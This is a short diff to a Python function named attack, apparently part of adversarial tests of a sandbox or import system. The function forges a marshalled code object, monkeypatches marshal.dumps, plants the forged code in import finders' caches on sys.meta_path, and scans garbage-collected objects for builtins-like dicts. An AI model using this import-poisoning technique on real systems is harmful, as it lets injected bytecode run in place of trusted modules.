@@ -19,8 +19,8 @@ PACKED = marshal.dumps((FORGED, []))
 def attack(target):
     marshal.dumps = lambda *arguments: PACKED
     for finder in sys.meta_path:
-        if hasattr(finder, "_codes"):
-            finder._codes["hostile"] = PACKED
+        if hasattr(finder, "_sources"):
+            finder._sources["hostile"] = finder._sources["hostile"]._replace(code=PACKED)
             finder.compile_all = lambda: {"hostile": PACKED}
     for held in gc.get_objects():
         if type(held) is dict and "import" in held and "compile" in held:
